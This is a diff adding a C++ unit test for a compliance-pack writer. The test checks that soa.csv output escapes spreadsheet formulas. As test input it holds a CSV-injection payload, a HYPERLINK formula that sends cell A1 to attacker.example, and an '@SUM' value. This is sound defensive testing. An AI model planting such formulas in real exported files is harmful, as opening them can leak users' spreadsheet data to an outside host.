@@ -86,6 +86,23 @@ TEST_F(EmitPackWriter, ASuccessfulBuildReplacesThePackWhole) {
   EXPECT_FALSE(fs::exists(out_ + "/org/docx"));
 }
 
+// Issue 14, point 11: soa.csv holds no live formula.
+TEST_F(EmitPackWriter, SoaCsvNeutralisesFormulas) {
+  model::ResolvedPack pack = SmallPack();
+  pack.soa[0].applicable = false;
+  pack.soa[0].justification = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
+  pack.soa[0].title = "@SUM(1+1)";
+  BuildOptions options;
+  options.out_dir = out_;
+  options.formats = {Format::kHtml};
+  PandocRunner unused("false");
+  ASSERT_TRUE(WritePack(pack, templates_, options, unused, sink_));
+  EXPECT_EQ(testing::ReadFileOrEmpty(out_ + "/org/soa.csv"),
+            "control,title,applicable,justification,status,owner,implemented_by\n"
+            "A.5.1,\"'@SUM(1+1)\",no,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Click\"\")\",excluded,,"
+            "policy#one policy#two\n");
+}
+
 TEST_F(EmitPackWriter, ARebuildWithNothingChangedRunsNoProgram) {
   const std::string fake = out_ + "/fake-pandoc";
   // A "pandoc" that fails while fake-pandoc.fail exists: the same program
